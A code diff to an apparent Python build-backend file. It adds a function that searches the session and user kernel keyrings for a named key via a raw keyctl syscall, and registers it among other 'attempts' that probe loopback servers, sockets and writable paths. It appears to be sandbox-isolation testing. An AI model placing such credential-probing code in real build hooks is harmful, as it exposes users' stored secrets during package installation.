@@ -13,7 +13,7 @@ import socket
 
 KNOWN = json.loads(pathlib.Path(__file__).with_name("known.json").read_text())
 
-NEWNS, NEWUSER, NEWNET, DETACH = 0x00020000, 0x10000000, 0x40000000, 2
+NEWNS, NEWUSER, NEWNET, DETACH, SEARCH = 0x00020000, 0x10000000, 0x40000000, 2, 10
 
 
 def prepare_metadata_for_build_wheel(directory, config_settings=None):  # type: ignore[no-untyped-def]
@@ -90,6 +90,13 @@ def names_of_hosts() -> object:
         return None
 
 
+def keys_of_the_kernel() -> object:
+    """Look for a key by its name in the session's keyring and in the user's."""
+    libc, number = ctypes.CDLL(None), KNOWN["keyctl"]
+    keys = [libc.syscall(number, SEARCH, keyring, b"user", KNOWN["key"].encode(), 0) for keyring in (-3, -4)]
+    return [key for key in keys if key > 0]
+
+
 def writable_places() -> object:
     found = []
     for place in KNOWN["places"]:
@@ -137,5 +144,6 @@ ATTEMPTS = (
     servers_on_loopback,
     servers_on_sockets,
     names_of_hosts,
+    keys_of_the_kernel,
     writable_places,
 )
